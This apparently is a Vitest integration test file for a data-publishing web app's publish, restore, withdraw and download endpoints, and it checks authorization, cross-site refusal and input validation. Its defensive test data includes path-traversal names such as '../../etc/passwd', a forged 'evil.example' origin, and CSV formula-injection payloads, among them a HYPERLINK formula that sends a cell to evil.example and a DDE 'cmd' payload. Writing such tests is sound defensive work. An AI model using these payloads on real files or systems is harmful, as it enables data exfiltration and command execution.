import { createHash } from 'node:crypto';
import Papa from 'papaparse';
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { POST as publish } from '../../../src/routes/api/publish/+server';
import { POST as restore } from '../../../src/routes/api/restore/+server';
import { POST as withdraw } from '../../../src/routes/api/withdraw/+server';
import { GET as historyGet } from '../../../src/routes/api/history/+server';
import { GET as manifestGet } from '../../../src/routes/api/manifest/+server';
import { GET as datasetGet } from '../../../src/routes/api/datasets/[...name]/+server';
import { GET as modelGet } from '../../../src/routes/api/model/[page]/+server';
import { analyseBytes } from '$lib/import/analyse';
import type { DatasetHistory } from '$lib/publishing/types';
import type { DatasetEntry } from '$lib/queries/datasets';
import { serverEngine } from '$lib/server/engine';
import { createServices, services, useServices } from '$lib/server/services';
import { call, ORIGIN, requestEvent, sessionFor } from './events';
import { tempStore, text } from './helpers';

// Each publish starts a fresh DuckDB and loads the current data into it: seconds, not milliseconds.
vi.setConfig({ testTimeout: 300_000, hookTimeout: 120_000 });

const FILE =
  'indicator_id,period,value,source\ntournees_soutenues,2030-2031,4321,Rapport test\ntournees_soutenues,2031-2032,4400,Rapport test\n';
const TARGET = 'observations/imports-tournees.csv';

let tokens: Record<'viewer' | 'editor' | 'admin', string>;
beforeAll(async () => {
  useServices(createServices(await tempStore('file')));
  tokens = { viewer: await sessionFor('viewer'), editor: await sessionFor('editor', 'marie'), admin: await sessionFor('admin') };
});
afterAll(() => useServices(undefined));

interface PublishOptions {
  token?: string;
  content?: BlobPart;
  type?: string;
  name?: string;
  decisions?: Record<string, unknown>;
  headers?: Record<string, string>;
}

/** POST /api/publish as the import page sends it: the file and the decisions, multipart. */
async function publishAs(o: PublishOptions = {}) {
  const body = new FormData();
  body.set('file', new File([o.content ?? FILE], o.name ?? 'tournees.csv', { type: o.type ?? 'text/csv' }));
  body.set('decisions', JSON.stringify(o.decisions ?? { mode: 'replace', expectAccepted: 2 }));
  return call(
    publish,
    await requestEvent({ method: 'POST', path: '/api/publish', body, token: o.token, headers: { origin: ORIGIN, ...o.headers } })
  );
}

async function postTarget(
  handler: (e: never) => unknown,
  path: string,
  fields: Record<string, string>,
  token?: string,
  headers: Record<string, string> = { origin: ORIGIN }
) {
  const body = new FormData();
  for (const [k, v] of Object.entries(fields)) body.set(k, v);
  return call(handler, await requestEvent({ method: 'POST', path, body, token, headers }));
}

/** What the server's engine (server-rendered charts) holds for tournees_soutenues in 2030-2031. */
async function serverValue(period = '2030-2031'): Promise<number | null> {
  const { db } = await serverEngine();
  const rows = await db.query<{ v: number }>({
    sql: "SELECT sum(value) AS v FROM observations WHERE indicator_id = 'tournees_soutenues' AND period = ?",
    params: [period]
  });
  return rows[0]?.v ?? null;
}

/** The figure the indicator page's model gives for `period`, as the server connector sends it. */
async function pageValue(period = '2030-2031'): Promise<number | null> {
  const res = await call(
    modelGet,
    await requestEvent({ path: '/api/model/indicator?id=tournees_soutenues', params: { page: 'indicator' } })
  );
  const model = res.body as { series: { period: string; value: number | null }[] };
  return model.series.find((p) => p.period === period)?.value ?? null;
}

async function manifest(): Promise<DatasetEntry[]> {
  return ((await call(manifestGet, await requestEvent({ path: '/api/manifest' }))).body as { manifest: DatasetEntry[] }).manifest;
}

const versions = async (name: string) => (await services().store.versions(name)).length;

describe('POST /api/publish', () => {
  it('refuses anonymous (401) and viewers (403), and stores nothing', async () => {
    expect((await publishAs()).status).toBe(401);
    expect((await publishAs({ token: tokens.viewer })).status).toBe(403);
    expect(await versions(TARGET)).toBe(0);
  });

  it('refuses a forged cross-site request even with an editor session', async () => {
    expect((await publishAs({ token: tokens.editor, headers: { origin: 'https://evil.example' } })).status).toBe(403);
    expect(await versions(TARGET)).toBe(0);
  });

  it('publishes for an editor: validated again on the server, stored as version 1, shown by the server engine and the manifest', async () => {
    const before = await manifest();
    const started = performance.now();
    const res = await publishAs({ token: tokens.editor });
    console.log(`one publish (fresh DuckDB, validation, store): ${(performance.now() - started).toFixed(0)} ms`);
    expect(res).toMatchObject({
      status: 200,
      body: { ok: true, dataset: TARGET, version: 1, rows: 2, accepted: 2, rejected: 0 }
    });
    const [v1] = await services().store.versions(TARGET);
    expect(v1).toMatchObject({ by: 'marie', fileName: 'tournees.csv', rows: 2, replaces: true });
    // The canonical CSV the import pipeline wrote, not the bytes sent.
    const stored = new TextDecoder().decode((await services().store.read(TARGET, 1))!);
    expect(stored.split('\n')[0]).toBe('indicator_id,period,value,region,country,discipline,program,note,source');
    expect(await serverValue()).toBe(4321);
    const after = await manifest();
    expect(after.find((e) => e.name === TARGET)).toMatchObject({
      version: expect.stringMatching(/^1-[0-9a-f]{12}$/),
      replaces: true
    });
    expect(after).not.toEqual(before);
    const audit = await services().audit.tail(1);
    expect(audit[0]).toMatchObject({ event: 'publish', user: 'marie', dataset: TARGET, version: 1 });
  });

  it('lets an admin publish too', async () => {
    const res = await publishAs({
      token: tokens.admin,
      content: FILE.replace('4321', '5000'),
      decisions: { dataset: TARGET, mode: 'replace' }
    });
    expect(res).toMatchObject({ status: 200, body: { version: 2 } });
    expect(await serverValue()).toBe(5000);
  });

  // Oversized requests (413) are the server hook's to refuse, before the endpoint runs: tests/unit/server/bodies.test.ts.
  it('refuses wrong types (415), a CSV sent as a workbook and binary content (415)', async () => {
    const n = await versions(TARGET);
    expect((await publishAs({ token: tokens.editor, type: 'image/png', name: 'x.png' })).status).toBe(415);
    expect(
      (
        await publishAs({
          token: tokens.editor,
          type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
          name: 'x.xlsx'
        })
      ).status
    ).toBe(415);
    const zip = new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0, 0, 0, 0, 0x14, 0, 6, 0, 0, 0, 1, 2, 3]);
    expect(await publishAs({ token: tokens.editor, content: zip })).toMatchObject({ status: 415, body: { code: 'binary' } });
    const raw = await call(
      publish,
      await requestEvent({
        method: 'POST',
        path: '/api/publish',
        body: FILE,
        token: tokens.editor,
        headers: { origin: ORIGIN, 'content-type': 'text/csv' }
      })
    );
    expect(raw.status).toBe(415);
    expect(await versions(TARGET)).toBe(n);
  });

  it('refuses dataset names with traversal, absolute paths or odd characters', async () => {
    for (const dataset of [
      '../../etc/passwd',
      '/etc/passwd',
      'observations/../indicators.csv',
      'observations/a b.csv',
      'observations/..%2f.csv',
      'indicators.csv',
      'catalogue/x.csv',
      'C:\\x.csv'
    ]) {
      const res = await publishAs({ token: tokens.editor, decisions: { dataset, mode: 'replace' } });
      expect(res, dataset).toMatchObject({ status: 400, body: { code: 'bad_dataset' } });
    }
    expect((await services().store.list()).map((d) => d.name)).toEqual([TARGET]);
  });

  it('validates with its own code: invalid rows, forged indicator ids, counts that differ from the browser', async () => {
    const n = await versions(TARGET);
    const bad = 'indicator_id,period,value\ntournees_soutenues,FY27,beaucoup\n';
    expect(await publishAs({ token: tokens.editor, content: bad })).toMatchObject({
      status: 422,
      body: { code: 'nothing_valid' }
    });
    const forged = { mode: 'replace', indicatorMap: { tournees_soutenues: 'pas_au_catalogue' } };
    expect(await publishAs({ token: tokens.editor, decisions: forged })).toMatchObject({
      status: 422,
      body: { code: 'unknown_indicator' }
    });
    expect(await publishAs({ token: tokens.editor, decisions: { mode: 'replace', expectAccepted: 3 } })).toMatchObject({
      status: 409,
      body: { code: 'count_mismatch' }
    });
    expect((await publishAs({ token: tokens.editor, decisions: { mode: 'sideways' } })).status).toBe(400);
    expect(
      (
        await publishAs({
          token: tokens.editor,
          decisions: { mapping: { layout: 'long', columns: { value: 99 }, periodColumns: [] } }
        })
      ).status
    ).toBe(422);
    expect(await versions(TARGET)).toBe(n);
    expect((await services().audit.tail(1))[0]).toMatchObject({ event: 'publish_refused' });
  });

  it('reads an indicator labelled constructor as a label like any other, not as Object’s constructor', async () => {
    const n = await versions(TARGET);
    const content = 'indicator_id,period,value\nconstructor,2041-2042,1\ntoString,2042-2043,2\n';
    const refused = await publishAs({ token: tokens.editor, content, decisions: { mode: 'replace' } });
    expect(refused).toMatchObject({ status: 422, body: { code: 'nothing_valid' } });
    expect(JSON.stringify(refused.body)).not.toMatch(/function|Object/);
    const mapped = { mode: 'append', indicatorMap: { constructor: 'tournees_soutenues', toString: 'tournees_soutenues' } };
    const res = await publishAs({ token: tokens.editor, content, name: 'constructor.csv', decisions: mapped });
    expect(res).toMatchObject({ status: 200, body: { ok: true, accepted: 2 } });
    expect(await versions(TARGET)).toBe(n);
  });

  it('publishes the indicators an import described, in a catalogue of its own', async () => {
    const content = 'Indicateur,Période,Valeur\nSpectacles numériques,2030-2031,12\n';
    const decisions = {
      mode: 'replace',
      indicatorMap: { 'Spectacles numériques': 'spectacles_numeriques' },
      described: [
        {
          indicator_id: 'spectacles_numeriques',
          axis: 'numerique',
          name_fr: 'Spectacles numériques',
          name_en: 'Digital shows',
          unit: 'count'
        }
      ]
    };
    const res = await publishAs({ token: tokens.editor, content, name: 'numerique.csv', decisions });
    expect(res).toMatchObject({
      status: 200,
      body: { dataset: 'observations/imports-numerique.csv', version: 1, catalogueVersion: 1 }
    });
    const { db } = await serverEngine();
    expect(await db.query({ sql: "SELECT name_fr, unit FROM indicators WHERE indicator_id = 'spectacles_numeriques'" })).toEqual([
      { name_fr: 'Spectacles numériques', unit: 'count' }
    ]);
    // Describing an indicator the catalogue already has is refused.
    const clash = {
      ...decisions,
      indicatorMap: { 'Spectacles numériques': 'tournees_soutenues' },
      described: [{ ...decisions.described[0], indicator_id: 'tournees_soutenues' }]
    };
    expect(await publishAs({ token: tokens.editor, content, name: 'autre.csv', decisions: clash })).toMatchObject({
      status: 409,
      body: { code: 'indicator_exists' }
    });
  });
});

describe('CSV downloads', () => {
  const ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1)', "+cmd|' /C calc'!A0", '@SUM(1+1)'];
  const live = (csv: string) =>
    Papa.parse<string[]>(csv, { skipEmptyLines: true })
      .data.flat()
      .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-][\d.]/.test(cell));
  const get = async (name: string, query: string) =>
    call(datasetGet, await requestEvent({ path: `/api/datasets/${name}?${query}`, params: { name } }));

  it('neutralise every formula a published file brought, in the current CSV, each version and the catalogue; ?raw=1 gives the stored bytes', async () => {
    const quote = (s: string) => `"${s.replaceAll('"', '""')}"`;
    const content = [
      'Indicateur,Période,Valeur,Note,Source',
      `Formules,2043-2044,5,${quote(ATTACKS[0]!)},${quote(ATTACKS[1]!)}`,
      `Formules,2044-2045,7,${quote(ATTACKS[2]!)},Rapport`
    ].join('\n');
    const decisions = {
      mode: 'replace',
      indicatorMap: { Formules: 'formules' },
      described: [{ indicator_id: 'formules', axis: 'numerique', name_fr: 'Formules', name_en: ATTACKS[0], unit: 'count' }]
    };
    const res = await publishAs({ token: tokens.editor, content, name: 'formules.csv', decisions });
    expect(res).toMatchObject({ status: 200, body: { dataset: 'observations/imports-formules.csv', catalogueVersion: 1 } });
    const dataset = 'observations/imports-formules.csv';
    const stored = text(await services().store.read(dataset, 1))!;
    expect(live(stored).length).toBeGreaterThanOrEqual(3); // the store keeps what was published

    for (const [name, query] of [
      [dataset, 'v=x'],
      [dataset, 'version=1'],
      ['catalogue/imports-formules.csv', 'version=1'],
      ['catalogue/imports-formules.csv', 'v=x']
    ] as const) {
      const { status, body } = await get(name, query);
      expect(status, `${name}?${query}`).toBe(200);
      expect(live(String(body)), `${name}?${query}`).toEqual([]);
      for (const attack of name === dataset ? ATTACKS : [ATTACKS[0]!])
        expect(String(body)).toContain(`'${attack.replaceAll('"', '""')}`);
    }
    // Machines get the bytes as stored: their hash is the version's.
    for (const query of ['version=1&raw=1', 'v=x&raw=1']) {
      const raw = await get(dataset, query);
      expect(raw.body).toBe(stored);
      const [record] = await services().store.versions(dataset);
      expect(createHash('sha256').update(String(raw.body)).digest('hex')).toBe(record!.sha256);
    }
  });
});

describe('POST /api/restore and /api/withdraw', () => {
  it('refuse anonymous, viewers and cross-site requests', async () => {
    const fields = { dataset: TARGET, version: '1' };
    expect((await postTarget(restore, '/api/restore', fields)).status).toBe(401);
    expect((await postTarget(restore, '/api/restore', fields, tokens.viewer)).status).toBe(403);
    expect((await postTarget(restore, '/api/restore', fields, tokens.editor, { origin: 'https://evil.example' })).status).toBe(
      403
    );
    expect((await postTarget(withdraw, '/api/withdraw', { dataset: 'observations/sample.csv' }, tokens.viewer)).status).toBe(403);
    expect(await versions(TARGET)).toBe(2);
  });

  it('restores version 1 as version 3: the server shows the old figures again', async () => {
    expect(await serverValue()).toBe(5000);
    expect(await pageValue()).toBe(5000); // the page's model, now kept by the server
    expect(await postTarget(restore, '/api/restore', { dataset: TARGET, version: '1' }, tokens.editor)).toMatchObject({
      status: 200,
      body: { version: 3, restoredFrom: 1 }
    });
    expect(await serverValue()).toBe(4321);
    expect(await pageValue()).toBe(4321); // not the model kept before the restore
    expect(await postTarget(restore, '/api/restore', { dataset: TARGET, version: '3' }, tokens.editor)).toMatchObject({
      status: 409,
      body: { code: 'already_current' }
    });
    expect((await postTarget(restore, '/api/restore', { dataset: TARGET, version: '42' }, tokens.editor)).status).toBe(404);
    for (const dataset of ['../users.json', '/etc/passwd', 'observations/../../users.json']) {
      expect((await postTarget(restore, '/api/restore', { dataset, version: '1' }, tokens.editor)).status, dataset).toBe(404);
    }
  });

  it('withdraws the sample data once real data exist, and a restore of version 0 brings it back', async () => {
    const sampleValue = async () =>
      (
        await (
          await serverEngine()
        ).db.query<{ n: number }>({ sql: 'SELECT CAST(count(*) AS INTEGER) AS n FROM observations WHERE is_sample' })
      )[0]!.n;
    expect(await sampleValue()).toBeGreaterThan(0);
    expect(await postTarget(withdraw, '/api/withdraw', { dataset: 'observations/sample.csv' }, tokens.editor)).toMatchObject({
      status: 200,
      body: { version: 1 }
    });
    expect((await manifest()).some((e) => e.name === 'observations/sample.csv')).toBe(false);
    expect(await sampleValue()).toBe(0);
    expect((await postTarget(withdraw, '/api/withdraw', { dataset: 'observations/sample.csv' }, tokens.editor)).status).toBe(409);
    expect((await postTarget(withdraw, '/api/withdraw', { dataset: 'indicators.csv' }, tokens.editor)).status).toBe(422);
    expect(
      await postTarget(restore, '/api/restore', { dataset: 'observations/sample.csv', version: '0' }, tokens.editor)
    ).toMatchObject({ status: 200, body: { version: 2 } });
    expect((await manifest()).find((e) => e.name === 'observations/sample.csv')?.version).toMatch(/^2-/);
    expect(await sampleValue()).toBeGreaterThan(0);
  });
});

describe('GET /api/history and /api/datasets/<name>?version=N', () => {
  it('lists every version of every dataset with who, when, rows and changes per indicator', async () => {
    const { status, body } = await call(historyGet, await requestEvent({ path: '/api/history' }));
    expect(status).toBe(200);
    const history = body as DatasetHistory[];
    expect(history.map((d) => d.name)).toEqual(
      expect.arrayContaining(['indicators.csv', 'observations/sample.csv', TARGET, 'catalogue/imports-numerique.csv'])
    );
    const target = history.find((d) => d.name === TARGET)!;
    expect(target.current).toBe(3);
    expect(target.versions.map((v) => [v.version, v.action, v.by, v.rows])).toEqual([
      [3, 'restore', 'marie', 2],
      [2, 'publish', expect.stringMatching(/^admin-/), 2],
      [1, 'publish', 'marie', 2]
    ]);
    expect(target.versions[0]!.changes).toMatchObject({
      added: 0,
      removed: 0,
      changed: 1,
      groups: [{ group: 'tournees_soutenues', changed: 1 }]
    });
    expect(target.versions[2]!.changes).toMatchObject({ added: 2, removed: 0, changed: 0 });
    const sample = history.find((d) => d.name === 'observations/sample.csv')!;
    expect(sample.versions.map((v) => v.action)).toEqual(['restore', 'withdraw', 'shipped']);
    expect(sample.versions[2]!.rows).toBeGreaterThan(1000);
    expect(sample.versions[1]!.changes!.removed).toBe(sample.versions[2]!.rows);
    expect(sample.versions[0]!.changes!.added).toBe(sample.versions[2]!.rows);
  });

  it('downloads any version; unknown names and traversal are 404; a withdrawal has no content (410)', async () => {
    const get = async (name: string, version: string) =>
      call(datasetGet, await requestEvent({ path: `/api/datasets/${name}?version=${version}`, params: { name } }));
    const v2 = await get(TARGET, '2');
    expect(v2.status).toBe(200);
    expect(v2.body).toContain('5000');
    expect((await get('observations/sample.csv', '0')).body).toMatch(/^indicator_id,/);
    expect((await get('observations/sample.csv', '1')).status).toBe(410);
    // The bytes as stored (streamed): the same answers.
    expect((await get(TARGET, '2&raw=1')).body).toContain('5000');
    expect((await get('observations/sample.csv', '0&raw=1')).body).toMatch(/^indicator_id,/);
    expect((await get('observations/sample.csv', '1&raw=1')).status).toBe(410);
    for (const [name, v] of [
      ['../users.json', '1'],
      ['/etc/passwd', '0'],
      ['observations/../../users.json', '1'],
      [TARGET, '99'],
      [TARGET, '99&raw=1'],
      [TARGET, '-1'],
      [TARGET, '1e3']
    ]) {
      expect((await get(name!, v!)).status, `${name} ${v}`).toBe(404);
    }
  });
});

describe('POST /api/publish with a workbook', () => {
  it('reads the chosen sheet on the server as the browser did: its TOTAL row, its #REF! cell refused', async () => {
    const bytes = new Uint8Array(readFileSync('tests/fixtures/tournees.xlsx'));
    const { db } = await serverEngine();
    const read = await analyseBytes(db, bytes, { sheet: 'Tournées' });
    if (!read.ok) throw new Error(`refused: ${read.problem}`);
    const dataset = 'observations/tournees-classeur.csv';
    const res = await publishAs({
      token: tokens.editor,
      content: bytes,
      name: 'tournees.xlsx',
      type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      decisions: {
        dataset,
        mode: 'replace',
        sheet: 'Tournées',
        mapping: { ...read.mapping, indicatorConstant: 'tournees_soutenues' },
        expectAccepted: 5
      }
    });
    // Six years on the TOTAL row, 2020-2021 being #REF!: five values, none from the regions' rows.
    expect(res).toMatchObject({ status: 200, body: { dataset, accepted: 5, rejected: 1 } });
    expect(await serverValue('2024-2025')).toBe(422);
  });
});
